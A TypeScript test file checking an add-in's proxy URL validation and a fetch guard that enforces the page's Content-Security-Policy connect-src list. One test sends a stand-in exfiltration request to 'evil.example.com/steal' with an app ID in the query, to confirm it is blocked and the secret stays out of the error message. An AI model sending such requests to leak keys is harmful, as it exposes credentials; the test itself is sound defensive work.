import { AppError } from "../errors/AppError";
import { bilingualMessage } from "../errors/messages";
import { parsePolicy } from "./contentSecurityPolicy";
import { checkProxyUrl, guardFetch, type Deployment } from "./deployment";

const deployment: Deployment = {
  policy: parsePolicy(
    "default-src 'self'; connect-src 'self' https://api.e-stat.go.jp https://proxy.example.jp",
  ),
  proxyOrigins: ["https://proxy.example.jp/estat"],
  selfOrigin: "https://addin.example.org",
};

describe("checkProxyUrl", () => {
  it("accepts no proxy and the configured one (any path under its origin)", () => {
    expect(checkProxyUrl("", deployment)).toEqual({ ok: true });
    expect(checkProxyUrl("https://proxy.example.jp/estat", deployment)).toEqual({ ok: true });
    expect(checkProxyUrl(" https://proxy.example.jp/other ", deployment)).toEqual({ ok: true });
  });

  it("refuses another origin, naming it and the allowed ones", () => {
    expect(checkProxyUrl("https://other.example.jp/estat", deployment)).toEqual({
      ok: false,
      reason: "notAllowed",
      origin: "https://other.example.jp",
      allowed: ["https://proxy.example.jp"],
    });
  });

  it("refuses every proxy when the build configured none, even without a page policy", () => {
    expect(checkProxyUrl("https://proxy.example.jp", { proxyOrigins: [] })).toMatchObject({
      ok: false,
      reason: "notAllowed",
    });
  });

  it.each(["http://proxy.example.jp", "proxy", "https://u:pw@proxy.example.jp/", "ftp://proxy.example.jp"])(
    "refuses %s as not a usable URL",
    (url) => expect(checkProxyUrl(url, deployment)).toMatchObject({ ok: false, reason: "format" }),
  );
});

describe("guardFetch", () => {
  it("refuses a blocked origin with CSP_BLOCKED before any request, and passes allowed ones through", async () => {
    const seen: string[] = [];
    const fetch = guardFetch(async (url) => {
      seen.push(url);
      return { status: 200, ok: true, headers: { get: () => null }, text: async () => "ok" };
    }, deployment);
    await expect(fetch("https://api.e-stat.go.jp/rest/3.0/app/json/getStatsList")).resolves.toMatchObject({
      status: 200,
    });
    const error = await fetch("https://evil.example.com/steal?appId=secret").catch((e: unknown) => e);
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe("CSP_BLOCKED");
    expect((error as AppError).params).toEqual({
      origin: "https://evil.example.com",
      allowed: "https://proxy.example.jp",
    });
    // The message says why (the page's CSP) in both languages, and never carries the query (appId).
    const text = bilingualMessage("CSP_BLOCKED", (error as AppError).params);
    expect(text).toMatch(/Content-Security-Policy の connect-src/);
    expect(text).toMatch(/SME_PROXY_ORIGIN/);
    expect(text).not.toMatch(/secret/);
    expect(seen).toEqual(["https://api.e-stat.go.jp/rest/3.0/app/json/getStatsList"]);
  });
});
